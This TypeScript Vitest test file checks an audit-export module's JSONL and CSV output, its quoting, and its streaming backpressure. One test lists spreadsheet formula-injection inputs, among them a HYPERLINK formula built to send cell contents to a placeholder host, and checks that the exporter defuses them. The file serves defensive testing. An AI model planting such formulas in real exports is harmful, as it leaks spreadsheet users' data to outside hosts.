import { PassThrough, Writable } from 'node:stream'
import { text } from 'node:stream/consumers'
import { expect, it } from 'vitest'
import { type Format, writeRows } from './audit-export.js'

interface Row {
  name: string
  more: unknown
}

async function exported(format: Format, ...batches: Row[][]): Promise<string> {
  const out = new PassThrough()
  const [said] = await Promise.all([text(out), writeRows(format, ['name', 'more'], inTurn(batches), (row) => row, out)])
  return said
}

async function* inTurn<T>(batches: T[][]): AsyncGenerator<T[]> {
  yield* batches
}

it('writes one JSON document a line', async () => {
  const lines = await exported('jsonl', [{ name: 'a\nb', more: { c: 1 } }], [{ name: '=1', more: null }])
  expect(lines).toBe('{"name":"a\\nb","more":{"c":1}}\n{"name":"=1","more":null}\n')
  expect(await exported('jsonl')).toBe('')
})

it('writes CSV as RFC 4180 says: a header, CRLF, quotes around what needs them and doubled inside', async () => {
  const csv = await exported('csv', [{ name: 'a "b", c', more: { d: 'e' } }], [{ name: 'f\r\ng', more: null }])
  expect(csv).toBe('name,more\r\n"a ""b"", c","{""d"":""e""}"\r\n"f\r\ng",\r\n')
})

it('leaves nothing in a CSV that a spreadsheet would run', async () => {
  for (const formula of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("http://a/?"&A1,"b")']) {
    const [, record = ''] = (await exported('csv', [{ name: formula, more: 'x' }])).split(/(?<=name,more)\r\n/)
    expect(record, formula).toMatch(/^"?'/)
  }
})

it('reads no further than somebody takes, and stops when they are gone', async () => {
  let read = 0
  async function* endless(): AsyncGenerator<Row[]> {
    for (;;) {
      read += 1
      yield [{ name: 'x'.repeat(1_000), more: null }]
    }
  }
  const stuck = new Writable({ highWaterMark: 10_000, write() {} })
  const writing = writeRows('jsonl', ['name', 'more'], endless(), (row) => row, stuck)
  await new Promise(setImmediate)
  await new Promise(setImmediate)
  expect(read).toBeLessThan(20)
  stuck.destroy()
  await writing
  expect(read).toBeLessThan(20)
})
